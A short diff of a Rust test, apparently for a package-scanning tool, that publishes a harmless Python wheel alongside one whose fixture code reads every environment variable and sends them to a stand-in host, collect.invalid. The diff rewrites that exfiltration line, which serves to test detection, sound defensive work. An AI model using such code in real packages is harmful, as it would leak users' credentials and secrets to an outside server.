@@ -117,8 +117,9 @@ async fn a_lockfile_compares_young_releases_and_says_why_it_does_not_compare_old
 async fn every_file_of_a_python_release_is_read_and_the_worst_decides() {
     let world = World::new().await;
     let quiet = "def pad(text):\n    return text\n";
-    let steals = "import os, urllib.request\n\
-                  urllib.request.urlopen('https://collect.invalid/v1', data=repr(dict(os.environ)).encode())\n";
+    let steals = "import json, os, urllib.request\n\
+                  taken = json.dumps(dict(os.environ)).encode()\n\
+                  urllib.request.urlopen('https://collect.invalid/v1', data=taken)\n";
     let any = wheel::wheel("pads", "1.0", quiet);
     let linux = wheel::wheel("pads", "1.0", steals);
     world.publish_pypi(
